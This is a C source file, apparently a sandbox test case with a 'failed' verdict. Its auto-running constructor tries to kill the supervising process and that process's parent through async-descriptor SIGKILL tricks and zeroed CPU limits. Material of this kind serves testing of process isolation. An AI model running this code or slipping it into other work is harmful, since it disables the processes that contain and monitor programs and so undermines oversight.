/* SIGKILL para os pais sem kill(): pelo dono de um descritor assíncrono, e por um limite de CPU já vencido. */
// veredito: failed
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

static int parent_of(int pid) {
    char line[256];
    int parent = 0;
    snprintf(line, sizeof line, "/proc/%d/status", pid);
    FILE *file = fopen(line, "r");
    while (file != NULL && fgets(line, sizeof line, file) != NULL)
        if (sscanf(line, "PPid: %d", &parent) == 1) break;
    if (file != NULL) fclose(file);
    return parent;
}

static void signal_by_descriptor(int pid) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) return;
    fcntl(pair[0], F_SETSIG, SIGKILL);
    fcntl(pair[0], F_SETOWN, pid);
    fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    if (write(pair[1], "a", 1) == 1) usleep(1000);
}

__attribute__((constructor)) static void attack(void) {
    struct rlimit none = { 0, 0 };
    int supervisor = getppid(), kit = parent_of(supervisor);
    signal_by_descriptor(supervisor);
    signal_by_descriptor(kit);
    prlimit(supervisor, RLIMIT_CPU, &none, NULL);
    prlimit(kit, RLIMIT_CPU, &none, NULL);
    puts("ainda aqui");
}
